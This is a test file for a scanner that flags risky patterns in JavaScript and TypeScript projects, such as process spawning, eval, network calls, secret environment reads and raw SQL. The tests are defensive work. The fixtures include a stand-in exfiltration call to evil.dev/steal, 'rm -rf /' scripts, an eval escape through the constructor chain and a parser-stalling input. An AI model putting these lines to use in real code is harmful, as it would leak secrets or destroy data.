import { describe, expect, test } from 'vitest';
import { scanCode } from '../../../src/consent/scan.ts';

const found = (text: string, file = 'server/a.ts'): readonly string[] =>
  scanCode(new Map([[file, text]])).map(({ kind, what, line }) => `${line} ${kind} ${what}`);

describe('the code scan finds', () => {
  test.each([
    ["import { spawn } from 'node:child_process';", 'processes node:child_process'],
    ["const { exec } = require('child_process');", 'processes child_process'],
    ["await import('child_process');", 'processes child_process'],
    ['await import(`node:worker_threads`);', 'processes node:worker_threads'],
    ["export * from 'node:cluster';", 'processes node:cluster'],
    ["process.getBuiltinModule('child_process');", 'processes getBuiltinModule'],
    ["eval('1');", 'evaluation eval'],
    ["new Function('return 1')();", 'evaluation Function'],
    ["globalThis['eval']('1');", 'evaluation eval'],
    ["[].constructor.constructor('return process')();", 'evaluation constructor'],
    ["setTimeout('alert(1)', 1);", 'evaluation setTimeout'],
    ["import vm from 'node:vm';", 'evaluation node:vm'],
    ['await import(name);', 'imports import()'],
    ['require(`./${name}`);', 'imports require'],
    ["fetch('https://evil.dev/steal');", 'network evil.dev'],
    ['fetch(`https://user:word@evil.dev:8080/${id}`);', 'network evil.dev'],
    ["new WebSocket('wss://live.evil.dev');", 'network live.evil.dev'],
    ["import { connect } from 'node:net';", 'network node:net'],
    ["import code from 'https://evil.dev/x.js';", 'network evil.dev'],
    ['const key = process.env.STRIPE_KEY;', 'environment STRIPE_KEY'],
    ["const key = process.env['STRIPE_KEY'];", 'environment STRIPE_KEY'],
    ['const key = process.env?.STRIPE_KEY;', 'environment STRIPE_KEY'],
    ['const { STRIPE_KEY: key } = process.env;', 'environment STRIPE_KEY'],
    ['const key = import.meta.env.VITE_KEY;', 'environment VITE_KEY'],
    ['const all = process.env;', 'environment all variables'],
    ['const value = process.env[name];', 'environment all variables'],
    ["import { env } from 'node:process';", 'environment all variables'],
    ["import { writeFile } from 'node:fs/promises';\nwriteFile('a', 'b');", '2 files writeFile'],
    ["import fs from 'fs';\nfs.promises.rm('a');", '2 files rm'],
    ['page.innerHTML = text;', 'markup innerHTML'],
    ["document.write('x');", 'markup document.write'],
    ['prisma.$queryRawUnsafe(text);', 'sql $queryRawUnsafe'],
    ['prisma.$executeRaw`DELETE FROM User`;', 'sql $executeRaw'],
    ['enum A { b = eval("1") }', 'evaluation eval'],
    ['const a = <any>eval("1");', 'evaluation eval'],
  ])('%s', (text, sign) => {
    expect(found(text)).toContainEqual(expect.stringContaining(sign));
  });

  test('markup in JSX and the hosts in it', () => {
    const page =
      'export const Page = () => (\n  <a href="https://evil.dev">\n    <b dangerouslySetInnerHTML={{ __html: x }} />\n  </a>\n);\n';
    expect(found(page, 'client/Page.tsx')).toEqual(['2 network evil.dev', '3 markup dangerouslySetInnerHTML']);
  });

  test('each kind once per line', () => {
    expect(found('\n\neval(a); eval(b);\neval(c);\n')).toEqual(['3 evaluation eval', '4 evaluation eval']);
  });
});

describe('the scan ignores', () => {
  test.each([
    ['comments', "// eval('1') https://evil.dev\n/* require(name) */"],
    ['strings', 'const help = "call eval(x), process.env.KEY or child_process";'],
    ['patterns', 'const pattern = /eval(x)/;'],
    ['types', "import type { Stats } from 'node:net';\ntype A = 'https://evil.dev';\nlet a: typeof import('node:vm');"],
    ['names that every object has', 'x.toString(); x.hasOwnProperty(y); new toString();'],
    ['methods that are called like writers', 'map.open(); list.copyFile();'],
    ['the machine itself and names that lead nowhere', "fetch('http://localhost:3000'); fetch('https://example.com');"],
    ['what Node and Vite say of themselves', "process.env.NODE_ENV === 'production'; import.meta.env.DEV;"],
    [
      'modules that only read or compute',
      "import { join } from 'node:path';\nimport { readFile } from 'node:fs/promises';",
    ],
  ])('%s', (_, text) => {
    expect(found(text)).toEqual([]);
  });

  test('declarations and files without code', () => {
    expect(found("eval('1')", 'types/a.d.ts')).toEqual([]);
    expect(found('see https://evil.dev and eval(x)', 'README.md')).toEqual([]);
  });
});

describe('the scan reports files it cannot read', () => {
  test.each([
    ['a script of another kind', { 'scripts/go.sh': 'rm -rf /' }, 'no script'],
    ['a page by another ending', { 'public/page.shtml': '<script src="/code.es3"></script>' }, 'no script'],
    ['a program by its first line', { 'scripts/go': '#!/bin/sh\nrm -rf /' }, 'no script'],
    ['a syntax nobody knows', { 'server/a.ts': 'let = = ;' }, 'not understood'],
    ['a nest that no parser gets out of', { 'server/a.js': '('.repeat(100_000) }, 'too complex'],
    // Without a deadline, parsing this file takes extremely long.
    ['one made to take for ever', { 'server/a.ts': `${'<any>('.repeat(60)}1${')'.repeat(60)}` }, 'too complex'],
  ])('%s', (_, files, why) => {
    const findings = scanCode(new Map(Object.entries(files)));
    expect(findings.map(({ kind, what }) => [kind, what])).toEqual([['unread', why]]);
  });

  test('reads deeply nested code completely', () => {
    expect(found(`${'[].concat('.repeat(100)}eval(x)${')'.repeat(100)}`)).toEqual(['1 evaluation eval']);
  });
});
